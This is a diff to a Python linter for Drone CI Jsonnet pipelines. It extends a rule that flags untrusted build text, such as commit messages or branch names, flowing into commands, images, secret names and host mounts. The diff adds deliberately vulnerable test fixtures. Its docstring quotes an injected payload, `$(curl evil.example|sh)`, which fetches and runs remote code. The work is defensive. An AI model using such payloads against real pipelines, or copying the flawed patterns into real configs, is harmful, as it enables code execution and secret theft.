@@ -15,6 +15,7 @@ from drone_lint.api import (
     Note,
     Place,
     Rule,
+    Settings,
     Severity,
     Step,
     Trigger,
@@ -37,6 +38,7 @@ _SHELL = {
 }
 """What a step has of the same in its environment."""
 _CODE = ("commands", "command", "entrypoint")
+_POD = (("service_account_name",), ("node_name",), ("host_aliases",), ("dns_config",))
 
 
 class JsonnetInjection(Rule):
@@ -44,13 +46,13 @@ class JsonnetInjection(Rule):
 
     `std.extVar('build.message')`, `build.title`, `build.author_*`, `build.source` and the like hold what people without any rights wrote, and `build.param.*` what
     whoever starts a build chose. In `commands` such text is shell code: `'echo "' + std.extVar('build.message') + '"'` with the message `$(curl evil.example|sh)`
-    runs it. In `image` it chooses what runs.
+    runs it. In `image` it chooses what runs, in `from_secret` which secret is given, in `host.path` what of the host is mounted.
 
     Elsewhere, too: in the JSON that the server makes of the program the text is escaped, but a runner afterwards replaces `${...}` and takes backslashes away in the
     whole of it. A message with `\"` in it then ends the string and goes on with keys of its own.
 
     The value is followed through functions, formats and libraries. What only decides (`if std.extVar('build.branch') == 'main'`) is no finding, but for `privileged`.
-    Names of branches outside of commands and images are reported by the pedantic profile only; build parameters are notices.
+    Names of branches outside of commands, images and such choices are reported by the pedantic profile only; build parameters are notices.
 
     Let the shell read the variable from its environment, in double quotes: `"$DRONE_COMMIT_MESSAGE"`.
     """
@@ -104,6 +106,21 @@ class JsonnetInjection(Rule):
         ] }
         """),
         Jsonnet("""
+        local target = std.extVar('build.branch');
+        {
+          kind: 'pipeline',
+          type: 'docker',
+          name: 'choices',
+          steps: [{
+            name: 'deploy',
+            image: 'alpine:3.20',
+            environment: { TOKEN: { from_secret: 'token_' + target } },  // <- jsonnet-injection
+            volumes: [{ name: 'cache', path: '/cache' }],
+          }],
+          volumes: [{ name: 'cache', host: { path: '/cache/' + target } }],  // <- jsonnet-injection
+        }
+        """),
+        Jsonnet("""
         local said = std.length(std.findSubstr('[host]', std.extVar('build.message'))) > 0;
         { kind: 'pipeline', type: 'docker', name: 'a', steps: [
           { name: 'decides', image: 'alpine:3.20', privileged: said },  // <- jsonnet-injection
@@ -119,6 +136,14 @@ class JsonnetInjection(Rule):
         ),
     )
     good = (
+        Jsonnet(
+            """
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          { name: 'tagged by its branch', image: 'plugins/docker:20', settings: { tags: [std.extVar('build.branch')] } },
+        ] }
+        """,
+            settings=Settings(),
+        ),
         Jsonnet("""
         local branch = std.extVar('build.branch');
         local event = std.extVar('build.event');
@@ -162,14 +187,15 @@ class JsonnetInjection(Rule):
 
 
 def _sink(place: Place) -> str:
-    """What the text becomes: `code`, `image`, `privileged`, or `other`."""
+    """What the text becomes: `code`, `image`, `privileged`, another `choice` of what a build may reach, or `other`."""
     path = place.path
-    if len(path) < 3 or path[0] not in ("steps", "services"):
-        return "other"
-    key = path[2]
+    key = path[2] if len(path) > 2 and path[0] in ("steps", "services") else ""
     if key in _CODE:
         return "code"
-    return str(key) if key in ("image", "privileged") else "other"
+    if key in ("image", "privileged"):
+        return str(key)
+    chosen = path[-1:] == ("from_secret",) or path[-2:] == ("host", "path") or key in ("network_mode", "devices") or path[:1] in _POD
+    return "choice" if chosen else "other"
 
 
 def _step(place: Place) -> Step | None:
@@ -190,13 +216,15 @@ def _message(name: str, place: Place, where: str, step: Step | None) -> str:
         return f"`{name}` is part of the image of {title}: {who} chooses what runs"
     if where == "privileged":
         return f"`{name}` decides whether {title} is privileged: {who} chooses"
+    if where == "choice":
+        return f"`{name}` chooses `{place.path[-1]}`{title and ' of ' + title}: {who} can name another"
     keys = ".".join(key for key in (place.path[2:] if title else place.path) if isinstance(key, str)) or "the configuration"
     return f"`{name}` becomes part of `{keys}`{title and ' of ' + title}, where runners still replace `${{...}}` and backslashes in it"
 
 
 def _help(name: str, where: str) -> str:
-    if where == "image":
-        return "choose among images that the program names: `if ... then 'a' else 'b'`"
+    if where in ("image", "choice"):
+        return "choose among values that the program names: `if ... then 'a' else 'b'`"
     if where == "privileged":
         return "decide by what only maintainers choose: the event, or the target branch"
     variable = _SHELL.get(name, name.removeprefix("build.param."))
